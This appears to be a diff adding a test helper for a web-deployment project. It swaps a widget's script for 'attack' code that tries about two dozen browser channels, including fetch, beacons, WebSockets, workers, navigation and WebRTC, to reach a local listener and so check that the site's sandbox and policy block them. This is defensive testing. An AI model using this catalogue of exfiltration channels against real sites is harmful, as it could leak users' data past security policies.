@@ -1,0 +1,144 @@
+// Somebody else's code in the widget's place, under the same headers and policy and in the same sandbox, which tries every way out that a
+// browser has; and somebody who listens at the other end.
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { readdir, writeFile } from 'node:fs/promises';
+import { createServer as createSecureServer } from 'node:https';
+import { createServer } from 'node:net';
+import { networkInterfaces } from 'node:os';
+import { join } from 'node:path';
+
+/** A browser's own: packets to the loopback address it might not send. */
+const address = () =>
+  Object.values(networkInterfaces())
+    .flat()
+    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1';
+
+/** Hears whoever calls: by name of the way, `heard`. */
+export class Listener {
+  heard = new Set();
+
+  static async start(t, tls) {
+    const listener = new Listener();
+    // The path says which way it came. An upgrade is a WebSocket's.
+    const server = createSecureServer(tls, (request, response) => {
+      listener.#hear(request);
+      // It would take whatever is offered to it.
+      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html', 'Cross-Origin-Resource-Policy': 'cross-origin' });
+      response.end();
+    });
+    server.on('upgrade', (request, socket) => {
+      listener.#hear(request);
+      socket.destroy();
+    });
+    const tcp = createServer((socket) => {
+      listener.heard.add('preconnect');
+      socket.destroy();
+    });
+    const udp = createSocket('udp4');
+    udp.on('message', () => listener.heard.add('WebRTC'));
+    for (const one of [server, tcp]) {
+      one.listen(0, '127.0.0.1');
+      await once(one, 'listening');
+    }
+    udp.bind(0, '0.0.0.0');
+    await once(udp, 'listening');
+    t.after(() => {
+      server.close();
+      server.closeAllConnections?.();
+      tcp.close();
+      udp.close();
+    });
+    const { port } = server.address();
+    listener.places = {
+      http: `https://127.0.0.1:${port}/`,
+      socket: `wss://127.0.0.1:${port}/`,
+      connection: `https://127.0.0.1:${tcp.address().port}/`,
+      stun: `stun:${address()}:${udp.address().port}`,
+    };
+    return listener;
+  }
+
+  #hear({ url }) {
+    // What a window that was opened asks for by itself.
+    if (url !== '/favicon.ico') this.heard.add(url.slice(1));
+  }
+}
+
+/** Runs in the frame, and tells the page around it when it is done. `onlyNavigation`: the last way only. */
+function attack(places, onlyNavigation) {
+  const at = (way) => `${places.http}${way}`;
+  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  // The only name that the policy allows is whoever's comes first.
+  const trust = window.trustedTypes?.createPolicy('selfcheck', { createScriptURL: (url) => url });
+  const asScript = (url) => trust?.createScriptURL(url) ?? url;
+  const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
+  const inWorker = (code) => {
+    const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+    return new Worker(asScript(blob));
+  };
+  const ways = {
+    window: () => window.open(at('window')),
+    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
+    XMLHttpRequest: () => {
+      const request = new XMLHttpRequest();
+      request.open('POST', at('XMLHttpRequest'));
+      request.send('x');
+    },
+    sendBeacon: () => navigator.sendBeacon(at('sendBeacon'), 'x'),
+    ping: () => {
+      const link = add('a', { href: '#', ping: at('ping') });
+      link.click();
+    },
+    EventSource: () => new EventSource(at('EventSource')),
+    WebSocket: () => new WebSocket(`${places.socket}WebSocket`),
+    image: () => add('img', { src: at('image') }),
+    background_image: () => {
+      document.body.style.backgroundImage = `url(${at('background_image')})`;
+    },
+    style_sheet: () => add('link', { rel: 'stylesheet', href: at('style_sheet') }),
+    font: () => new FontFace('x', `url(${at('font')})`).load(),
+    video: () => add('video', { src: at('video'), preload: 'auto', autoplay: true, muted: true }),
+    object: () => add('object', { data: at('object') }),
+    script: () => add('script', { src: asScript(at('script')) }),
+    import: () => import(at('import')),
+    frame: () => add('iframe', { src: at('frame') }),
+    form: () => add('form', { action: at('form'), method: 'post', target: '_self' }).submit(),
+    prefetch: () => add('link', { rel: 'prefetch', href: at('prefetch') }),
+    preconnect: () => add('link', { rel: 'preconnect', href: places.connection }),
+    worker_fetch: () => inWorker(`fetch(${JSON.stringify(at('worker_fetch'))}, { mode: 'no-cors' })`),
+    worker_script: () =>
+      inWorker(`const trust = self.trustedTypes?.createPolicy('selfcheck', { createScriptURL: (url) => url });
+        const url = ${JSON.stringify(at('worker_script'))};
+        importScripts(trust?.createScriptURL(url) ?? url)`),
+    top_navigation: () => {
+      window.top.location.href = at('top_navigation');
+    },
+    WebRTC: async () => {
+      const connection = new RTCPeerConnection({ iceServers: [{ urls: places.stun }] });
+      connection.createDataChannel('x');
+      await connection.setLocalDescription(await connection.createOffer());
+    },
+  };
+  const run = async () => {
+    for (const way of onlyNavigation ? [] : Object.values(ways)) {
+      try {
+        // Stopped ones reject, or throw.
+        Promise.resolve(way()).catch(() => {});
+      } catch {}
+    }
+    await sleep(onlyNavigation ? 0 : 2000);
+    window.parent.postMessage({ tried: Object.keys(ways).join() }, '*');
+    // The last that it does.
+    window.location.href = at('navigation');
+  };
+  // A window needs a click before it opens.
+  const button = add('button', { type: 'button', textContent: 'Try' });
+  button.addEventListener('click', () => void run());
+}
+
+/** For deployments' `damage`. */
+export const putAttackIn = (places, onlyNavigation) => async (site) => {
+  const name = (await readdir(site.directory)).find((one) => /^widget-[0-9a-f]{12}\.js$/.test(one));
+  await writeFile(join(site.directory, name), `(${attack})(${JSON.stringify(places)}, ${onlyNavigation});`);
+};
